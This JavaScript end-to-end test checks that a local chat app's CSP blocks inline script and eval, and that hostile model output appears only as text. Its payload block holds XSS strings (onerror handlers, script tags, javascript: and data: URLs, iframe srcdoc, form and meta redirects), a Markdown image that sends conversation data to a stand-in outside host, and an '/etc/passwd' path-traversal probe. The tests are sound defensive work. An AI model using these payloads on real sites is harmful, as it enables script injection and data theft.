// security.mjs - the page cannot be turned against its user: `hearth serve`'s CSP (no inline script, no eval), hostile model output shown as text, and no network request during a chat once the model is cached.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { HEARTH_BIN, REPO } from './lib/config.mjs';
import { launch, suite, waitState } from './lib/harness.mjs';
import { fakeModelBytes } from './lib/fake-model.mjs';

const t = suite('e2e-security');

// An origin that stands for "somewhere else on the internet": it only counts what reaches it.
async function outsideServer() {
  const hits = [];
  const server = http.createServer((req, res) => { hits.push(req.url); res.writeHead(200, { 'Content-Type': 'image/png', 'Access-Control-Allow-Origin': '*' }); res.end(); });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  return { origin: `http://127.0.0.1:${server.address().port}`, hits, close: () => new Promise((r) => { server.closeAllConnections?.(); server.close(r); }) };
}

// GET or HEAD through node:http; resolves {status, headers}.
function request(url, method = 'GET') {
  return new Promise((resolve, reject) => {
    const req = http.request(url, { method }, (res) => { res.resume(); res.on('end', () => resolve({ status: res.statusCode, headers: res.headers })); });
    req.on('error', reject);
    req.end();
  });
}

// Sends a message and waits for the reply to finish; returns the last assistant item's facts.
async function ask(page, text) {
  await page.fill('#input', text);
  await page.press('#input', 'Enter');
  await waitState(page, ['generating'], 10000).catch(() => {});
  await waitState(page, ['ready'], 60000);
  return page.evaluate(() => [...document.querySelectorAll('li.assistant')].at(-1).dataset.finish);
}

// Everything in the conversation that could run code, load something or leave the page.
function dangerousNodes(page) {
  return page.evaluate(() => {
    const out = [];
    for (const el of document.querySelectorAll('#messages *')) {
      const tag = el.tagName.toLowerCase();
      if (['script', 'iframe', 'object', 'embed', 'img', 'svg', 'math', 'form', 'style', 'link', 'meta', 'base', 'video', 'audio', 'input', 'button'].includes(tag)) out.push(tag);
      for (const a of el.attributes) {
        if (/^on/i.test(a.name) || a.name === 'style' || a.name === 'srcdoc' || a.name === 'formaction') out.push(`${tag}[${a.name}]`);
        if (/^(href|src|action|xlink:href)$/i.test(a.name) && /^\s*(javascript|data|vbscript):/i.test(a.value)) out.push(`${tag}[${a.name}=${a.value.slice(0, 30)}]`);
      }
    }
    return out;
  });
}

await t.run(async () => {
  if (!t.check('engine test double is built (tools/wasm/build.sh --fake)', fs.existsSync(path.join(REPO, 'build/wasm-fake/hearth-mt.wasm')))) return;
  // The served layout, with the test double as build/wasm (copies: serve refuses symlinks out of its root),
  // and a probe script (same origin, so the CSP lets it load) that tries eval and new Function.
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'hearth-security-root-'));
  t.onCleanup(() => fs.rmSync(root, { recursive: true, force: true }));
  fs.cpSync(path.join(REPO, 'web'), path.join(root, 'web'), { recursive: true });
  fs.cpSync(path.join(REPO, 'build/wasm-fake'), path.join(root, 'build/wasm'), { recursive: true });
  fs.cpSync(path.join(REPO, 'build/vendor'), path.join(root, 'build/vendor'), { recursive: true });
  fs.mkdirSync(path.join(root, 'models'));
  fs.writeFileSync(path.join(root, 'models/demo-q8_0.gguf'), fakeModelBytes(2 << 20, 5));
  fs.writeFileSync(path.join(root, 'web/app/probe-eval.js'),
    "setTimeout('window.__pwned = \"timeout\"', 0);\nconst r = [];\nfor (const f of [() => eval('1 + 1'), () => new Function('return 1')()]) {\n" +
    "  try { f(); r.push('ran'); } catch (e) { r.push(e.name); }\n}\ndocument.body.dataset.evalProbe = r.join(',');\n");

  const proc = spawn(HEARTH_BIN, ['serve', '--port', '0', '--root', root], { stdio: ['ignore', 'pipe', 'pipe'] });
  t.onCleanup(() => proc.kill('SIGTERM'));
  const served = []; // every request hearth serve answered ("GET /path")
  let out = '';
  proc.stderr.on('data', (d) => { for (const line of String(d).split('\n')) if (/^(GET|HEAD) /.test(line)) served.push(line); });
  const origin = await new Promise((resolve) => {
    proc.stdout.on('data', (d) => { out += d; const m = /(http:\/\/127\.0\.0\.1:\d+)\//.exec(out); if (m) resolve(m[1]); });
    proc.on('exit', () => resolve(null));
    setTimeout(() => resolve(null), 5000);
  });
  if (!t.check(`${HEARTH_BIN} serve starts`, origin, out)) return;
  const outside = await outsideServer();
  t.onCleanup(outside.close);

  // ---- the policy on every kind of response ----
  const responses = [['/web/app/', 'GET'], ['/web/app/app.js', 'GET'], ['/build/wasm/hearth-st.wasm', 'GET'], ['/models/demo-q8_0.gguf', 'HEAD'], ['/missing', 'GET'], ['/web/../etc/passwd', 'GET']];
  const policies = [];
  for (const [p, m] of responses) {
    const r = await request(`${origin}${p}`, m);
    policies.push([p, r.status, r.headers['content-security-policy'] || '', r.headers['x-content-type-options']]);
  }
  t.check('every response carries the Content-Security-Policy and nosniff', policies.every(([, , csp, nosniff]) => csp && nosniff === 'nosniff'), JSON.stringify(policies));
  const csp = Object.fromEntries(policies[0][2].split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  const script = csp['script-src'] || csp['default-src'] || [];
  t.check("script-src allows this origin and wasm compilation only: no 'unsafe-inline', no 'unsafe-eval', no wildcard, data: or blob:",
    script.includes("'self'") && !script.some((v) => ["'unsafe-inline'", "'unsafe-eval'", '*', 'data:', 'blob:', 'http:', 'https:'].includes(v)), JSON.stringify(script));
  t.check("style-src has no 'unsafe-inline'", csp['style-src'] && !csp['style-src'].includes("'unsafe-inline'"), JSON.stringify(csp['style-src']));
  t.check("object-src 'none', base-uri 'none', frame-ancestors 'none', form-action 'none'",
    ['object-src', 'base-uri', 'frame-ancestors', 'form-action'].every((d) => JSON.stringify(csp[d]) === JSON.stringify(["'none'"])), JSON.stringify(csp));
  t.check('img-src does not reach other origins', csp['img-src'] && !csp['img-src'].some((v) => /^(\*|https?:)$/.test(v) || /^https?:\/\//.test(v)), JSON.stringify(csp['img-src']));

  // ---- in the browser: inline script and eval are refused ----
  const { page, context, logs } = await launch(t);
  await page.goto(`${origin}/web/app/`);
  if (!t.check('the app loads the (test double) model', (await waitState(page, ['ready', 'error'], 60000)) === 'ready', await page.textContent('#error-text'))) return;
  const probe = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__pwned = "inline"';
    document.body.append(s);
    const p = document.createElement('script');
    p.src = 'probe-eval.js';
    document.body.append(p);
    const a = document.createElement('a'); // a javascript: URL navigation
    a.href = 'javascript:window.__pwned="javascript-url"';
    document.body.append(a);
    a.click();
    for (let i = 0; i < 50 && !document.body.dataset.evalProbe; i++) await new Promise((r) => setTimeout(r, 20));
    await new Promise((r) => setTimeout(r, 100));
    a.remove();
    return { inline: window.__pwned ?? null, probe: document.body.dataset.evalProbe };
  });
  t.check('an injected inline <script> does not run', probe.inline === null, JSON.stringify(probe));
  t.check('eval and new Function are refused (EvalError); setTimeout(string) does not run', probe.probe === 'EvalError,EvalError' && probe.inline === null, JSON.stringify(probe));
  const cspLogs = () => logs.filter((l) => /Content Security Policy/.test(l));
  const expected = cspLogs().length; // the probes above, on purpose

  // ---- hostile model output: shown as text, never run, never loaded ----
  await page.evaluate(() => { window.__violations = []; document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`)); });
  const X = outside.origin;
  const payload = [
    'Here is **bold** text, then hostile markup:',
    '<img src=x onerror="window.__pwned=\'img\'">',
    '<script>window.__pwned="script"</script>',
    '</script><script>window.__pwned="after-close"</script>',
    `<a href="javascript:window.__pwned='a'">html link</a> <a href="${X}/a-tag">outside link</a>`,
    "[md link](javascript:window.__pwned='md') and [data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)",
    '<svg onload="window.__pwned=\'svg\'"><circle r="1"/></svg> <math><mtext><img src=x onerror="window.__pwned=\'math\'"></mtext></math>',
    '<iframe srcdoc="<script>parent.__pwned=\'iframe\'</script>"></iframe> <object data="x"></object> <embed src="x">',
    '<style>body { display: none }</style> <div style="position:fixed;inset:0">overlay</div>',
    `![exfiltrate](${X}/leak.png?secret=conversation) ![same origin](/models/probe.png) <img src="${X}/raw.png">`,
    `<form action="${X}/form"><input name=q><button formaction="${X}/f2">go</button></form> <base href="${X}/"> <meta http-equiv="refresh" content="0;url=${X}/meta">`,
    `<link rel="stylesheet" href="${X}/css"> <video src="${X}/v.mp4" autoplay></video> <details open ontoggle="window.__pwned='details'">x</details>`,
    '```html\n<script>window.__pwned="code"</script>\n```',
  ].join('\n\n');
  const finish = await ask(page, `/echo ${payload}`);
  await page.waitForTimeout(500);
  const shown = await page.evaluate(() => {
    const li = [...document.querySelectorAll('li.assistant')].at(-1);
    return { text: li.querySelector('.answer').textContent, pwned: window.__pwned ?? null, violations: window.__violations, strong: !!li.querySelector('.answer strong'),
      userChildren: [...document.querySelectorAll('li.user')].at(-1).children.length, visible: getComputedStyle(document.body).display };
  });
  t.check('the hostile reply completes', finish === 'stop', finish);
  t.check('no script of the reply ran (inline, handlers, javascript: and data: URLs, svg, iframe)', shown.pwned === null, String(shown.pwned));
  const bad = await dangerousNodes(page);
  t.check('the reply holds no elements or attributes that run code or load anything', bad.length === 0, JSON.stringify(bad));
  t.check('model HTML is visible as text', shown.text.includes('<img src=x onerror=') && shown.text.includes('</script><script>') && shown.text.includes('<iframe srcdoc='), shown.text.slice(0, 300));
  t.check('Markdown still renders (bold)', shown.strong);
  t.check('Markdown images become links: nothing is fetched for them', await page.evaluate(() => [...document.querySelectorAll('li.assistant a')].some((a) => a.textContent === 'exfiltrate')));
  t.check('the user message is text too', shown.userChildren === 0);
  t.check('nothing reached the outside origin', outside.hits.length === 0, JSON.stringify(outside.hits));
  t.check('no Content-Security-Policy violation: the sanitiser left nothing for the CSP to block', shown.violations.length === 0 && cspLogs().length === expected, JSON.stringify(shown.violations) + cspLogs().slice(expected).join('\n'));
  t.check('the page is intact (not hidden by injected CSS)', shown.visible !== 'none');

  // ---- reload: the saved conversation is rendered again through the same sanitiser ----
  await page.reload();
  await waitState(page, ['ready', 'error'], 60000);
  await page.waitForTimeout(300);
  const again = await dangerousNodes(page);
  t.check('after reload the restored hostile reply is still inert', again.length === 0 && (await page.evaluate(() => window.__pwned ?? null)) === null && outside.hits.length === 0, JSON.stringify(again));

  // ---- once the model is cached, a whole chat makes no network request ----
  const intercepted = [];
  await context.route('**/*', (route) => { intercepted.push(route.request().url()); return route.continue(); });
  const seen = []; // requests as the page reports them (its workers' included)
  const s0 = served.length;
  const modelRequests = () => served.filter((l) => l.includes('/models/')).length;
  const m0 = modelRequests();
  await page.reload();
  t.check('second visit: ready from the cache', (await waitState(page, ['ready', 'error'], 60000)) === 'ready');
  t.check('second visit: the model is not requested', modelRequests() === m0, served.slice(s0).join(', '));
  // The page load ends with the service worker's update check (register() re-fetches sw.js): wait for it.
  for (let i = 0; i < 100 && !served.slice(s0).some((l) => l.includes('/web/sw.js')); i++) await page.waitForTimeout(50);
  await page.waitForTimeout(300);
  const n0 = served.length, i0 = intercepted.length;
  page.on('request', (r) => seen.push(r.url()));
  await page.click('#new-chat');
  await ask(page, 'First question');
  await ask(page, 'A second one, with `code` and **Markdown**');
  await page.fill('#input', `/echo ${'a long reply, stopped early; '.repeat(60)}`);
  await page.press('#input', 'Enter');
  await waitState(page, ['generating'], 10000);
  await page.click('#stop');
  await waitState(page, ['ready'], 10000);
  await page.click('#open-settings');
  await page.setChecked('#settings-form input[name=reasoning]', false);
  await page.click('#settings-save');
  await ask(page, 'And after changing settings');
  await page.click('#new-chat');
  await ask(page, 'A new chat');
  const during = served.slice(n0);
  t.check('a whole chat (turns, stop, settings, new chat) makes no request to the server', during.length === 0, during.join(', '));
  t.check('and none at all, as the browser sees it (route interception, page and workers)', intercepted.length === i0 && seen.length === 0, JSON.stringify([intercepted.slice(i0), seen]));
  t.check('and none to the outside', outside.hits.length === 0, JSON.stringify(outside.hits));
});
